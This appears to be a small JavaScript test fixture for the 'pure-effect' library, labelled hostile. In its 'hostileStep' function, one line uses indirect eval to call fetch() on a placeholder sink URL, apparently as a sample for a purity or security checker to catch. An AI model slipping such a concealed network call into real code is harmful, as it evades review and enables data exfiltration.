// fetch() through indirect eval.
import { Command, Success, effectPipe } from 'pure-effect';

const loadOrder = (input) => {
  const cmdLoadOrder = () => ({ orderId: input.orderId, total: 42 });
  return Command(cmdLoadOrder);
};

const hostileStep = (order) => {
  (0, globalThis.eval)("fetch('__SINK__/indirect-eval')"); // HOSTILE
  return Success(order);
};

export const hostileFlow = (input) => effectPipe(loadOrder, hostileStep)(input);
